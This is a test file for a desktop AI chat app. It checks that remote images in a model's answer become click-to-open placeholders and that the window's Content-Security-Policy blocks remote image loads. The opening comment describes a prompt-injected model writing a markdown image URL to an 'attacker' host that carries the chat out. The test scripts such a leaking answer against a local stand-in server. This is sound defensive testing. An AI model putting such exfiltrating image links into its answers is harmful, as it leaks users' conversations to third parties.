// Remote content in a model's answer: an injected model could write
// ![](http://attacker/?data=<the chat>) and the window would send the chat
// away just by showing the image. The image is a placeholder instead, links
// open in the system browser on click only, and the window's
// Content-Security-Policy refuses remote images however they get in, while
// the app's own pieces (highlighter, forms, tool images, terminal) still work.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { launch, openApp, resetModel, scriptModel, screenshot } from '../lib.mjs';

// A 1×1 PNG, inline in the answer: it loads nothing.
const DOT = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

let browser;
let server;
const hits = []; // every request the "attacker's" server received
let base;

before(async () => {
  browser = await launch();
  server = createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, { 'content-type': 'image/png' });
    res.end(Buffer.from(DOT.split(',')[1], 'base64'));
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${server.address().port}`;
});
after(async () => {
  await browser?.close();
  server?.closeAllConnections();
  await new Promise((resolve) => server?.close(resolve));
});

/** watch reloads the page with a recorder of CSP violations and of the URLs handed to the system browser. */
async function watch(page) {
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await page.reload();
  await page.waitForFunction(() => typeof window.go?.gui?.Window?.Info === 'function' && typeof window.runtime?.BrowserOpenURL === 'function');
  // Wails would start the system browser (xdg-open); record the URL instead.
  await page.evaluate(() => {
    window.__opened = [];
    window.runtime.BrowserOpenURL = (u) => window.__opened.push(u);
  });
  const requests = [];
  page.on('request', (r) => { if (r.url().startsWith(base)) requests.push(r.url()); });
  return requests;
}

test('a remote image in an answer is a placeholder; nothing is fetched', async () => {
  await resetModel();
  const { page, errors } = await openApp(browser, { hash: '#/chat' });
  const requests = await watch(page);
  const host = new URL(base).host;
  const leak = `${base}/chart.png?leak=the-users-secret`;

  await page.getByRole('button', { name: 'New chat' }).click();
  await scriptModel({
    text: `Here is your chart:\n\n![secret chart](${leak})\n\nA dot: ![dot](${DOT})\n\nSee [the report](${base}/report).\n\n\`\`\`js\nconst answer = 42;\n\`\`\`\n`,
  });
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('Draw me a chart');
  await box.press('Enter');
  await page.getByTestId('message-assistant').and(page.locator('[data-status="complete"]')).waitFor();
  const answer = page.getByTestId('message-assistant').last();

  // The remote image is a placeholder with a button; no <img> points anywhere remote.
  const placeholder = answer.getByTestId('remote-image');
  await placeholder.waitFor();
  assert.match(await placeholder.innerText(), /Image not loaded: secret chart/);
  const open = placeholder.getByRole('button', { name: `Open image from ${host}` });
  assert.ok(await open.isVisible(), 'the placeholder offers to open the image');
  assert.equal(await answer.locator('img[src^="http"], img[src^="//"]').count(), 0);
  // The inline image shows (img-src allows data:), and the highlighter ran.
  await page.waitForFunction(() => document.querySelector('img[alt="dot"]')?.naturalWidth === 1);
  await answer.locator('pre code.hljs .hljs-keyword').first().waitFor();
  await screenshot(page, 'chat-remote-image');

  // The policy is the second line: an <img> with a remote src, however it
  // got into the page, is refused before any request leaves.
  const refused = await page.evaluate((u) => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
    document.body.appendChild(Object.assign(document.createElement('img'), { src: u, hidden: true }));
  }), `${base}/csp-probe.png`);
  assert.equal(refused, `img-src ${base}/csp-probe.png`);

  // Links and the image open in the system browser on click; the window stays.
  const url = page.url();
  await answer.getByRole('link', { name: 'the report' }).click();
  await open.click();
  assert.deepEqual(await page.evaluate(() => window.__opened), [`${base}/report`, leak]);
  assert.equal(page.url(), url);

  // The browser reports the probe as a request it refused; it tried nothing else.
  assert.deepEqual(requests, [`${base}/csp-probe.png`], 'the page tried no other request to the remote host');
  assert.deepEqual(hits, [], 'the remote host received no request');
  assert.deepEqual(await page.evaluate(() => window.__csp), [`img-src ${base}/csp-probe.png`], 'only the probe was refused');
  assert.deepEqual(errors, []);
  await page.close();
});

test('under the policy, forms, tool images and the terminal still work', async () => {
  const { page, errors } = await openApp(browser, { hash: '#/tools' });
  await watch(page);
  await page.getByRole('heading', { level: 1, name: 'Tools' }).waitFor();
  await page.getByLabel('Server', { exact: true }).selectOption('everything');
  const tools = page.getByRole('list', { name: 'Tools of the server' });
  const result = page.getByRole('region', { name: 'Result' });

  // A form generated from the schema and validated (Ajv) before it runs.
  await tools.getByRole('button', { name: 'echo', exact: true }).click();
  await page.getByLabel(/message/i).first().fill('under the policy');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await result.getByText('Echo: under the policy').waitFor();

  // A tool's image arrives as a data: URL and is shown.
  await tools.getByRole('button', { name: 'get-tiny-image', exact: true }).click();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await result.locator('img[src^="data:image/"]').waitFor();
  await page.waitForFunction(() => document.querySelector('[aria-label="Result"] img')?.naturalWidth > 0);

  // xterm.js renders the workspace terminal (it injects its own styles).
  await page.evaluate(() => { location.hash = '#/workspace'; });
  const term = page.getByTestId('terminal');
  await term.locator('.xterm-rows').waitFor();
  await term.click();
  await page.keyboard.type('echo csp-$((40+2))\n');
  await term.locator('.xterm-rows', { hasText: 'csp-42' }).waitFor();

  assert.deepEqual(await page.evaluate(() => window.__csp), [], 'the app itself breaks no rule of its policy');
  assert.deepEqual(errors, []);
  await page.close();
});
